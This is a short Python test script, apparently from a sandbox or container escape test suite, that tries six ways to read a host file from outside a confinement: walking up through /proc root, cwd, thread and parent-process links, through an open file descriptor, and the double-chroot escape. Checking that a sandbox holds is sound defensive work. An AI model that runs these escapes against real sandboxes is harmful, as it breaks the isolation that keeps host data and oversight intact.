# Climbs above its root through the links that the kernel makes of it.
# control: outside
import os

from attack import attempt, canary, given, read, syscall

path = given("host.file")


def two_roots():
    """A root above a directory that is held open."""
    held = os.open("/", os.O_RDONLY)
    os.mkdir(given("scratch") + ".root")
    syscall("chroot", (given("scratch") + ".root").encode())
    os.fchdir(held)
    for _ in range(40):
        os.chdir("..")
    return canary(read(path[1:]))


def below(link):
    return canary(read(link + "/.." * 20 + path))


attempt(
    ("the root", lambda: below("/proc/self/root")),
    ("the working directory", lambda: below("/proc/self/cwd")),
    ("a thread's root", lambda: below("/proc/self/task/%d/root" % os.getpid())),
    ("the shell's root", lambda: below("/proc/%d/root" % os.getppid())),
    ("an open root", lambda: below("/proc/self/fd/%d" % os.open("/", os.O_PATH))),
    ("two roots", two_roots),
)
